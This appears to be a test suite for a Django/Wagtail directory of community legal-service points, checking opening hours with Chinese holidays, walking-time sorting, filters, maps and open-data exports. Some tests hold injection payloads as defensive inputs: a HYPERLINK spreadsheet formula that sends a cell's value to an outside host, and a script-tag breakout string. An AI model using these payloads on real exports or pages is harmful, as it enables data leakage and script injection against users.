"""十分钟法律服务圈: residents find the legal-service point nearest their
compound, see whether it is open now (public holidays and 调休 included, also
for years the holiday library does not know), and what each point offers."""

import csv
import io
import json
import xml.etree.ElementTree as ET
from datetime import date, datetime, time
from pathlib import Path
from zoneinfo import ZoneInfo

import jsonschema
from django.contrib.auth import get_user_model
from django.test import SimpleTestCase, TestCase, override_settings
from wagtail.models import Page
from wagtail.test.utils import WagtailPageTestCase

from home.models import HomePage
from legal.models import (
    HolidayArrangement,
    LegalServiceDirectoryPage,
    LegalServicePointPage,
)
from legal.opening_hours import WeeklySchedule, describe_week
from legal.wagtail_hooks import years_missing_holidays
from tests.builders import (
    build_compound,
    build_directory,
    build_editor,
    build_point,
    build_service,
    build_site,
)
from tests.html import landmark, soup, texts
from tests.queries import cold_visit

SHANGHAI = ZoneInfo("Asia/Shanghai")
SCHEMA = (
    Path(__file__).resolve().parent.parent
    / "docs/open-data/legal-directory.schema.json"
)
WORKDAY_HOURS = [(weekday, time(8, 30), time(12, 0)) for weekday in range(5)] + [
    (weekday, time(14, 0), time(17, 30)) for weekday in range(5)
]


def at(year, month, day, hour=10, minute=0):
    return datetime(year, month, day, hour, minute, tzinfo=SHANGHAI)


class Exception_:
    def __init__(self, day, closed=True, opens=None, closes=None):
        self.date, self.closed, self.opens, self.closes = day, closed, opens, closes


class Arrangement:
    def __init__(self, is_working_day, works_as_weekday=None):
        self.is_working_day = is_working_day
        self.works_as_weekday = works_as_weekday


class OpenNowTest(SimpleTestCase):
    """Open-now for a point open 08:30–12:00 and 14:00–17:30 on working days."""

    def status(self, moment, **kwargs):
        return WeeklySchedule(WORKDAY_HOURS, **kwargs).status(moment)

    def test_open_on_a_weekday_morning(self):
        status = self.status(at(2026, 11, 25, 10, 0))  # a Wednesday
        self.assertTrue(status.is_open)
        self.assertEqual(status.label, "正在开放 · 今天 12:00 关闭")

    def test_lunch_break_says_when_it_opens_again_today(self):
        status = self.status(at(2026, 11, 25, 12, 30))
        self.assertEqual(status.label, "已关闭 · 下次开放 今天 14:00")

    def test_weekend_points_to_monday(self):
        status = self.status(at(2026, 11, 28, 10, 0))  # a Saturday
        self.assertFalse(status.is_open)
        self.assertEqual(status.label, "已关闭 · 下次开放 周一 08:30")

    def test_public_holiday_is_closed(self):
        status = self.status(at(2026, 10, 1, 10, 0))  # National Day, a Thursday
        self.assertFalse(status.is_open)
        # The Golden Week runs to 7 October; the weekend in between is no help.
        self.assertEqual(status.label, "已关闭 · 下次开放 10月8日 08:30")

    def test_makeup_working_saturday_opens_with_weekday_hours(self):
        status = self.status(at(2026, 10, 10, 9, 0))  # 调休: Saturday worked
        self.assertTrue(status.is_open)

    def test_a_point_that_ignores_holidays_keeps_its_weekly_hours(self):
        hours = [(weekday, time(8, 0), time(20, 0)) for weekday in range(7)]
        schedule = WeeklySchedule(hours, follows_holidays=False)
        self.assertTrue(schedule.status(at(2026, 10, 1, 10, 0)).is_open)
        self.assertFalse(schedule.status(at(2026, 10, 10, 7, 59)).is_open)

    def test_edges_of_a_period(self):
        self.assertTrue(self.status(at(2026, 11, 25, 8, 30)).is_open)
        self.assertFalse(self.status(at(2026, 11, 25, 8, 29)).is_open)
        self.assertFalse(self.status(at(2026, 11, 25, 12, 0)).is_open)
        self.assertTrue(self.status(at(2026, 11, 25, 11, 59)).is_open)

    def test_around_midnight(self):
        before = self.status(at(2026, 11, 25, 23, 59))
        self.assertEqual(before.label, "已关闭 · 下次开放 周四 08:30")
        after = self.status(at(2026, 11, 26, 0, 0))
        self.assertEqual(after.label, "已关闭 · 下次开放 今天 08:30")

    def test_time_is_read_in_shanghai(self):
        utc = datetime(2026, 11, 25, 2, 0, tzinfo=ZoneInfo("UTC"))  # 10:00 in Shanghai
        self.assertTrue(self.status(utc).is_open)

    def test_dated_exception_closes_a_working_day(self):
        closed = Exception_(date(2026, 11, 25))
        status = self.status(at(2026, 11, 25, 10, 0), exceptions=[closed])
        self.assertEqual(status.label, "已关闭 · 下次开放 周四 08:30")

    def test_dated_exception_with_special_hours(self):
        evening = Exception_(date(2026, 11, 28), False, time(18, 0), time(20, 0))
        status = self.status(at(2026, 11, 28, 19, 0), exceptions=[evening])
        self.assertEqual(status.label, "正在开放 · 今天 20:00 关闭")

    def test_year_past_the_holiday_library_uses_weekday_rules(self):
        friday = self.status(at(2027, 1, 1, 10, 0))  # New Year's Day 2027
        self.assertTrue(friday.is_open)
        saturday = self.status(at(2027, 1, 2, 10, 0))
        self.assertEqual(saturday.label, "已关闭 · 下次开放 周一 08:30")

    def test_editors_entries_cover_a_year_the_library_does_not_know(self):
        arrangements = {
            date(2027, 1, 1): Arrangement(is_working_day=False),
            date(2027, 1, 2): Arrangement(is_working_day=True),
        }
        self.assertFalse(
            self.status(at(2027, 1, 1, 10, 0), arrangements=arrangements).is_open
        )
        self.assertTrue(
            self.status(at(2027, 1, 2, 10, 0), arrangements=arrangements).is_open
        )

    def test_editors_entries_override_the_library(self):
        extra_holiday = {date(2026, 11, 25): Arrangement(is_working_day=False)}
        status = self.status(at(2026, 11, 25, 10, 0), arrangements=extra_holiday)
        self.assertFalse(status.is_open)

    def test_makeup_day_of_a_point_open_on_some_weekdays_keeps_its_own_hours(self):
        wednesday_and_friday = [
            (2, time(14, 0), time(17, 0)),
            (4, time(14, 0), time(17, 0)),
        ]
        schedule = WeeklySchedule(wednesday_and_friday)
        self.assertFalse(schedule.status(at(2026, 10, 10, 15, 0)).is_open)

    def test_makeup_day_follows_the_weekday_editors_named(self):
        hours = [(4, time(14, 0), time(17, 0))]
        as_friday = {date(2026, 10, 10): Arrangement(True, works_as_weekday=4)}
        schedule = WeeklySchedule(hours, arrangements=as_friday)
        self.assertTrue(schedule.status(at(2026, 10, 10, 15, 0)).is_open)

    def test_a_point_open_around_the_clock(self):
        all_day = [(weekday, time(0, 0), time(0, 0)) for weekday in range(7)]
        schedule = WeeklySchedule(all_day, follows_holidays=False)
        for moment in (at(2026, 11, 25, 0, 0), at(2026, 11, 25, 23, 59)):
            with self.subTest(moment=moment):
                self.assertEqual(
                    schedule.status(moment).label, "正在开放 · 今天 24:00 关闭"
                )

    def test_a_point_without_hours_says_so(self):
        status = WeeklySchedule([]).status(at(2026, 11, 25))
        self.assertEqual(status.label, "已关闭 · 近期暂停开放")


@override_settings(WALKING_DETOUR_FACTOR=1.3, WALKING_METRES_PER_MINUTE=50)
class DirectoryTest(WagtailPageTestCase):
    @classmethod
    def setUpTestData(cls):
        cls.home = build_site()
        cls.directory = build_directory(cls.home)
        cls.mediation = build_service("矛盾调解", "mediation")
        cls.legal_aid = build_service("法律援助", "legal-aid")
        # 0.002° north of the compound: 222.39 m × 1.3 / 50 = 5.78 → 6 minutes.
        cls.near = build_point(
            cls.directory,
            "调解室",
            "mediation-room",
            latitude="32.392000",
            longitude="119.400000",
            hours=[(weekday, time(0, 0), time(0, 0)) for weekday in range(7)],
            services=[cls.mediation],
            follows_public_holidays=False,
        )
        # 0.004° north: 444.78 m × 1.3 / 50 = 11.56 → 12 minutes.
        cls.far = build_point(
            cls.directory,
            "社区法治工作室",
            "studio",
            latitude="32.394000",
            longitude="119.400000",
            hours=[],
            services=[cls.mediation, cls.legal_aid],
            is_lead_point=True,
        )
        cls.compound = build_compound(
            "康乐新村", latitude="32.390000", longitude="119.400000"
        )

    def titles(self, response):
        return texts(soup(response).select(".point-card__title a"))

    def test_page_tree_rules(self):
        self.assertAllowedParentPageTypes(LegalServiceDirectoryPage, {HomePage})
        self.assertAllowedSubpageTypes(
            LegalServiceDirectoryPage, {LegalServicePointPage}
        )
        self.assertAllowedParentPageTypes(
            LegalServicePointPage, {LegalServiceDirectoryPage}
        )
        self.assertCanNotCreateAt(Page, LegalServicePointPage)
        for page in (self.directory, self.near):
            self.assertPageIsRenderable(page)

    def test_lead_point_comes_first_without_a_compound(self):
        self.assertEqual(
            self.titles(self.client.get(self.directory.url)),
            ["社区法治工作室", "调解室"],
        )

    def test_choosing_a_compound_sorts_by_walking_minutes_and_marks_ten_minutes(self):
        response = self.client.get(self.directory.url, {"compound": self.compound.pk})
        cards = soup(response).select(".point-card")
        self.assertEqual(
            texts(card.select_one(".walking") for card in cards),
            [
                "步行约 6 分钟 十分钟内",
                "步行约 12 分钟",
            ],
        )
        self.assertEqual(self.titles(response), ["调解室", "社区法治工作室"])

    def test_filter_by_service(self):
        response = self.client.get(self.directory.url, {"service": "legal-aid"})
        self.assertEqual(self.titles(response), ["社区法治工作室"])

    def test_filter_open_now(self):
        response = self.client.get(self.directory.url, {"open": "1"})
        self.assertEqual(self.titles(response), ["调解室"])

    def test_filters_combine(self):
        response = self.client.get(
            self.directory.url,
            {"open": "1", "service": "legal-aid", "compound": self.compound.pk},
        )
        self.assertEqual(self.titles(response), [])
        self.assertContains(response, "没有找到符合条件的服务点")

    def test_bad_filter_values_are_ignored_with_a_message(self):
        cases = {
            "service": ("<script>", "没有“&lt;script&gt;”这项服务"),
            "compound": ("abc", "没有找到您选的小区"),
        }
        for name, (value, message) in cases.items():
            with self.subTest(name=name):
                response = self.client.get(self.directory.url, {name: value})
                self.assertContains(response, message)
                self.assertEqual(len(self.titles(response)), 2)
        for value in ("99999", "１", "-1", "9" * 400, "9" * 5000, "1\x00"):
            with self.subTest(compound=value):
                response = self.client.get(self.directory.url, {"compound": value})
                self.assertContains(response, "没有找到您选的小区")
        response = self.client.get(self.directory.url, {"service": "legal\x00aid"})
        self.assertContains(response, "这项服务，已显示全部服务点")
        response = self.client.get(self.directory.url, {"open": "yes", "x": "1"})
        self.assertEqual(len(self.titles(response)), 2)

    def test_hotline_on_every_directory_page(self):
        for page in (self.directory, self.near, self.far):
            with self.subTest(page=page.title):
                hotline = landmark(self.client.get(page.url), "公共法律服务热线")
                self.assertIn("12348", hotline.get_text())

    def test_point_page_shows_services_hours_and_minutes_from_every_compound(self):
        build_compound("杨庄街坊", latitude="32.394000", longitude="119.400000")
        page = soup(self.client.get(self.far.url))
        services = texts(page.select(".service h3"))
        self.assertEqual(services, ["矛盾调解", "法律援助"])
        walking = page.find("section", attrs={"aria-labelledby": "walking-title"})
        rows = [texts(row.find_all(["th", "td"])) for row in walking.select("tbody tr")]
        self.assertEqual(
            rows, [["康乐新村", "约 12 分钟"], ["杨庄街坊", "约 1 分钟（十分钟内）"]]
        )
        hours = page.find("section", attrs={"aria-labelledby": "hours-title"})
        first_row = hours.select_one("tbody tr")
        self.assertEqual(texts(first_row.find_all(["th", "td"])), ["周一", "休息"])

    def test_listing_queries_do_not_grow_with_the_number_of_points(self):
        url = f"{self.directory.url}?compound={self.compound.pk}"
        _, before = cold_visit(self.client, url)
        for number in range(3):
            build_point(
                self.directory,
                f"服务点{number}",
                f"point-{number}",
                hours=[(0, time(9, 0), time(17, 0))],
                services=[self.mediation, self.legal_aid],
                exceptions=[{"date": date(2026, 12, 1)}],
            )
        _, after = cold_visit(self.client, url)
        self.assertEqual(len(after), len(before))

    def test_renaming_a_service_updates_search(self):
        self.legal_aid.name = "免费法律帮助"
        self.legal_aid.save()
        response = self.client.get("/search/", {"q": "法律帮助"})
        self.assertIn(
            "社区法治工作室", texts(soup(response).select(".search-results h2"))
        )

    def test_map_is_well_formed_svg_with_one_marker_per_point(self):
        page = soup(self.client.get(self.directory.url))
        svg = ET.fromstring(str(page.find("svg")))
        namespace = {"svg": "http://www.w3.org/2000/svg"}
        points = svg.findall(".//svg:a[@class]", namespace)
        self.assertEqual(
            sorted(point.find("svg:text", namespace).text for point in points),
            sorted(["调解室", "社区法治工作室"]),
        )
        compounds = [
            g for g in svg.iter() if "map-marker--background" in g.get("class", "")
        ]
        self.assertEqual(len(compounds), 1)
        self.assertEqual(
            len([c for c in svg.iter() if c.get("class") == "map-ring"]), 1
        )
        self.assertEqual(
            svg.find("svg:title", namespace).text, "十分钟法律服务圈示意图"
        )

    def test_every_place_on_the_map_is_also_in_a_text_list(self):
        page = soup(self.client.get(self.directory.url))
        listed = texts(page.select(".map-list li"))
        self.assertEqual(
            sorted(listed), sorted(["调解室", "社区法治工作室", "康乐新村"])
        )

    def test_the_numbers_on_a_phone_map_are_those_of_the_lists(self):
        """A phone shows numbers instead of names on the map: each is the
        number of the same place in the points sorted by walking time and in
        the text list of every place."""
        page = soup(self.client.get(self.directory.url, {"compound": self.compound.pk}))
        svg = page.find("svg")
        on_map = {
            marker["aria-label"]: marker.select_one(".map-label--number").text
            for marker in svg.select("a.map-marker")
        } | {
            marker.select_one(".map-label--name").text: marker.select_one(
                ".map-label--number"
            ).text
            for marker in svg.select("g.map-marker--background")
        }
        self.assertEqual(
            on_map, {"调解室": "1", "社区法治工作室": "2", "康乐新村": "3"}
        )
        cards = {
            card.select_one(".point-card__title a").text: card.select_one(
                ".point-card__number"
            ).text
            for card in page.select(".point-card")
        }
        self.assertEqual(cards, {"调解室": "1", "社区法治工作室": "2"})
        listed = {li.text: li["value"] for li in page.select(".map-list li")}
        self.assertEqual(listed, on_map)

    def test_open_data_json_validates_against_the_schema_in_the_repository(self):
        response = self.client.get(self.directory.url + "open-data/json/")
        self.assertEqual(response["Content-Type"], "application/json")
        data = json.loads(response.content)
        jsonschema.validate(
            data,
            json.loads(SCHEMA.read_text(encoding="utf-8")),
            format_checker=jsonschema.FormatChecker(),
        )
        self.assertEqual(
            sorted(location["name"] for location in data["locations"]),
            sorted(["调解室", "社区法治工作室"]),
        )
        near = f"location-{self.near.pk}"
        self.assertIn(
            {"service_id": "service-mediation", "location_id": near},
            [
                {key: row[key] for key in ("service_id", "location_id")}
                for row in data["service_at_location"]
            ],
        )
        days = [row["byday"] for row in data["schedules"] if row["location_id"] == near]
        self.assertEqual(days, ["MO", "TU", "WE", "TH", "FR", "SA", "SU"])

    def test_open_data_csv_opens_with_the_csv_module(self):
        response = self.client.get(self.directory.url + "open-data/csv/")
        self.assertIn("attachment", response["Content-Disposition"])
        text = response.content.decode("utf-8-sig")
        rows = list(csv.DictReader(io.StringIO(text)))
        by_name = {row["name"]: row for row in rows}
        self.assertEqual(set(by_name), {"调解室", "社区法治工作室"})
        self.assertEqual(by_name["社区法治工作室"]["services"], "矛盾调解；法律援助")
        self.assertTrue(by_name["调解室"]["opening_hours"].startswith("MO 00:00-24:00"))

    def test_an_entry_cannot_become_a_spreadsheet_formula(self):
        self.near.address = '=HYPERLINK("http://example.com/?d="&A1,"点击")'
        self.near.save_revision().publish()
        response = self.client.get(self.directory.url + "open-data/csv/")
        rows = csv.DictReader(io.StringIO(response.content.decode("utf-8-sig")))
        by_name = {row["name"]: row for row in rows}
        self.assertEqual(by_name["调解室"]["address"], "'" + self.near.address)

    def test_point_page_carries_schema_org_json_ld(self):
        page = soup(self.client.get(self.near.url))
        data = json.loads(page.find("script", type="application/ld+json").string)
        self.assertEqual(data["@type"], "LegalService")
        self.assertEqual(data["geo"]["latitude"], 32.392)
        self.assertEqual(len(data["openingHoursSpecification"]), 7)
        monday = data["openingHoursSpecification"][0]
        self.assertEqual(monday["dayOfWeek"], "https://schema.org/Monday")
        # Open around the clock: schema.org's times have no 24:00.
        self.assertEqual((monday["opens"], monday["closes"]), ("00:00", "23:59"))

    def test_json_ld_cannot_break_out_of_its_script_element(self):
        self.near.summary = "</script><script>alert(1)</script>"
        self.near.save_revision().publish()
        html = self.client.get(self.near.url).content.decode()
        self.assertNotIn("</script><script>alert(1)", html)

    def test_a4_leaflet_lists_every_point_with_hours_and_phone(self):
        response = self.client.get(self.directory.url + "leaflet/")
        page = soup(response)
        self.assertIn("print-sheet--a4", page.body["class"])
        self.assertIsNone(page.find("nav", attrs={"aria-label": "主导航"}))
        rows = [texts(row.find_all(["th", "td"])) for row in page.select("tbody tr")]
        self.assertEqual(rows[0][0], "社区法治工作室（牵头）")
        self.assertEqual(rows[1][2], "周一至周日 00:00–24:00")
        self.assertIn("12348", page.get_text())
        self.assertIsNotNone(page.find("svg"))

    def test_search_finds_a_point_by_its_service(self):
        response = self.client.get("/search/", {"q": "法律援助"})
        hits = soup(response).select(".search-results li")
        self.assertEqual(texts(hit.h2 for hit in hits), ["社区法治工作室"])
        self.assertEqual(
            hits[0].select_one(".search-result__section").text, "法律服务点"
        )


class HolidayReminderTest(TestCase):
    """Editors are told to enter the year's 放假安排 before the library runs out."""

    def test_years_the_library_does_not_know_are_reported_near_the_year_end(self):
        self.assertEqual(years_missing_holidays(date(2026, 6, 1)), [])
        self.assertEqual(years_missing_holidays(date(2026, 11, 25)), [2027])

    def test_entering_the_year_clears_the_reminder(self):
        HolidayArrangement.objects.create(date=date(2027, 1, 1), name="元旦")
        self.assertEqual(years_missing_holidays(date(2026, 11, 25)), [])

    def test_the_reminder_is_only_for_those_who_can_enter_holidays(self):
        from django.contrib.auth.models import Group, Permission

        group = Group.objects.create(name="读者")
        group.permissions.add(Permission.objects.get(codename="access_admin"))
        reader = get_user_model().objects.create_user("reader", password="password")
        reader.groups.add(group)
        self.client.force_login(reader)
        self.assertNotContains(self.client.get("/admin/"), "法定节假日安排</h2>")

    def test_the_reminder_shows_on_the_admin_dashboard(self):
        editor = build_editor()
        self.client.force_login(editor)
        response = self.client.get("/admin/")
        expected = years_missing_holidays()
        if expected:
            self.assertContains(response, f"请录入{expected[0]}年的法定节假日安排")
        else:
            self.assertNotContains(response, "法定节假日安排</h2>")


class WeeklyHoursInWordsTest(SimpleTestCase):
    def test_consecutive_days_with_the_same_hours_are_grouped(self):
        schedule = WeeklySchedule(
            [*WORKDAY_HOURS, (5, time(9, 0), time(11, 30))], follows_holidays=False
        )
        self.assertEqual(
            describe_week(schedule.by_weekday),
            "周一至周五 08:30–12:00、14:00–17:30；周六 09:00–11:30",
        )

    def test_no_hours(self):
        self.assertEqual(describe_week({}), "暂无固定开放时间")
